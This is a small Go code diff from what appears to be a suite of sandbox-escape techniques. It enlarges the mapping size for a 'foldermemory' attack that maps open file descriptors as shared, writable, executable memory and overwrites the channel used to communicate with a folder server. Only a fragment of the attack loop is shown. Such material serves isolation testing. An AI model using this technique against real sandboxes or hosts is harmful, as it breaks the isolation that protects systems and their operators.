@@ -14,7 +14,7 @@ func init() { techniques["foldermemory"] = tryFolderMemory }
 // tryFolderMemory maps every open file for writing and for execution. It then overwrites what it could map: the memory
 // in which it communicates with the server of a folder.
 func tryFolderMemory() {
-	const size, header = 4096 + 2*(256<<10), 4096
+	const size, header = 4096 + 2*(512<<10), 4096
 	for _, way := range attack.Ways {
 		for fd := uintptr(3); fd < 16; fd++ {
 			for _, kind := range []uintptr{syscall.MAP_SHARED, 3, syscall.MAP_SHARED | syscall.MAP_POPULATE} { // 3: MAP_SHARED_VALIDATE
